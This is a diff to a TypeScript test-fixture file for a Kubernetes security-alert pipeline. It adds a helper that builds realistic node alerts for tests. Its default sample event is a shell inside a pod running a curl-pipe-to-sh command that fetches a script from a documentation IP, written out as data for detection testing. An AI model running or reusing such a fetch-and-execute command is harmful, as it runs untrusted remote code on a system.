@@ -3,7 +3,11 @@ import { type Alert, AlertStatus } from '../../shared/alerts/alert';
 import { createAlertId } from '../../shared/alerts/alertId';
 import { auditEvent, container, podObject } from '../../shared/detection/exampleEvents';
 import { privilegedContainer } from '../../shared/detection/rules/audit/privileged-container';
-import { type Severity } from '../../shared/detection/rule';
+import { EntityType } from '../../shared/detection/entities';
+import { evaluateRules } from '../../shared/detection/evaluateRules';
+import { nodeDedupKey, nodeEventEntities } from '../../shared/detection/nodeEntities';
+import { defineNodeRule, type NodeRule, type Severity } from '../../shared/detection/rule';
+import { type NodeEvent, NodeEventType, type NodePod, type NodeProcess, type NodeRecord } from '../../shared/node/nodeEvent';
 import { evaluate, TEST_CLUSTER } from './ruleHarness';
 
 /** The subscription of the rule harness's test cluster. */
@@ -81,4 +85,90 @@ export function variedAlerts(count: number, subscriptionId = ALERT_SUBSCRIPTION)
 export function newestFirst(a: Alert, b: Alert): number {
   if (a.timeGeneratedUtc !== b.timeGeneratedUtc) return a.timeGeneratedUtc < b.timeGeneratedUtc ? 1 : -1;
   return a.id < b.id ? 1 : a.id > b.id ? -1 : 0;
+}
+
+/** What a node alert of {@link nodeAlert} is about; every field has a realistic default. */
+export interface NodeAlertOptions {
+  node?: string;
+  /** `null`: a host process (no pod, container or image). */
+  pod?: { namespace?: string; name?: string; container?: string; image?: string; workload?: string } | null;
+  binary?: string;
+  arguments?: string;
+  /** `null`: the sensor gave no pid (some Falco alerts). */
+  pid?: number | null;
+  parent?: { binary: string; arguments?: string; pid?: number };
+  ancestors?: { binary: string; arguments?: string; pid?: number }[];
+  /** The file the rule names, if any. */
+  filePath?: string;
+  /** The remote end of a connection the rule names, if any. */
+  remote?: { address: string; port?: number };
+  time?: string;
+  eventId?: string;
+}
+
+/** A node rule for fixtures: it raises every event with the standard node entities plus a file and a remote address. */
+const fixtureNodeRule = (options: NodeAlertOptions): NodeRule =>
+  defineNodeRule({
+    id: 'fixture-node-activity',
+    alertType: 'K8S.NODE_FixtureActivity',
+    displayName: 'Suspicious process activity on a node (fixture)',
+    description: 'A process on a node did something a node rule flags (test fixture).',
+    severity: 'Medium',
+    intent: 'Execution',
+    techniques: ['T1059.004'],
+    remediation: ['Find out who started the process.'],
+    falsePositives: [],
+    references: [],
+    equivalents: { defender: [], falco: [], guardDuty: [], elastic: [] },
+    match: () => true,
+    entities: (event) => [
+      ...nodeEventEntities(event),
+      ...(options.filePath === undefined ? [] : [{ type: EntityType.file, name: options.filePath, hostName: event.nodeName }]),
+      ...(options.remote === undefined ? [] : [{ type: EntityType.ip, address: options.remote.address, ...(options.remote.port === undefined ? {} : { port: options.remote.port }) }]),
+    ],
+    dedupKey: (event) => nodeDedupKey(event),
+    examples: [],
+  });
+
+/**
+ * A real node alert, as the pipeline builds it: a decoded node event (by default a `curl` run by a shell in
+ * a pod of the test cluster) through a node rule and the aggregation. Built from the typed event, so it does
+ * not depend on the raw-event decoder.
+ */
+export function nodeAlert(options: NodeAlertOptions = {}): Alert {
+  const podOptions = options.pod === null ? undefined : (options.pod ?? {});
+  const pod: NodePod | undefined =
+    podOptions === undefined
+      ? undefined
+      : {
+          namespace: podOptions.namespace ?? 'shop',
+          name: podOptions.name ?? 'web-7d4b9c6f5-x2x9k',
+          container: { id: 'containerd://551e16', name: podOptions.container ?? 'web', image: { name: podOptions.image ?? 'docker.io/library/nginx:1.27' } },
+          podLabels: { app: 'web' },
+          workload: podOptions.workload ?? 'web',
+          workloadKind: 'Deployment',
+        };
+  const processOf = (binary: string, args: string, pid: number | undefined): NodeProcess => ({
+    binary,
+    arguments: args,
+    ...(pid === undefined ? {} : { pid }),
+    uid: 0,
+    ...(pod === undefined ? {} : { pod }),
+  });
+  const parent = options.parent ?? { binary: '/bin/sh', arguments: '-c "curl -s http://203.0.113.50/x.sh | sh"', pid: 4100 };
+  const ancestors = options.ancestors ?? [{ binary: '/usr/sbin/nginx', arguments: '-g daemon off;', pid: 1 }];
+  const event: NodeEvent = {
+    type: NodeEventType.processExec,
+    id: options.eventId ?? 'node-event-0001',
+    time: options.time ?? '2026-11-02T10:20:00.000Z',
+    nodeName: options.node ?? 'aks-nodepool1-12345678-vmss000000',
+    process: processOf(options.binary ?? '/usr/bin/curl', options.arguments ?? '-s http://203.0.113.50/x.sh', options.pid === null ? undefined : (options.pid ?? 4242)),
+    parent: processOf(parent.binary, parent.arguments ?? '', parent.pid),
+    ancestors: ancestors.map((ancestor) => processOf(ancestor.binary, ancestor.arguments ?? '', ancestor.pid)),
+  };
+  const record: NodeRecord = { signal: 'node', event, cluster: TEST_CLUSTER, source: { index: 0 } };
+  const { findings } = evaluateRules([record], { rules: [fixtureNodeRule(options)] });
+  const [alert] = aggregateFindings(findings, { windowInMs: 60 * 60 * 1000, now: new Date('2026-11-02T12:00:00Z') });
+  if (alert === undefined) throw new Error('the fixture node rule raised no alert');
+  return alert;
 }
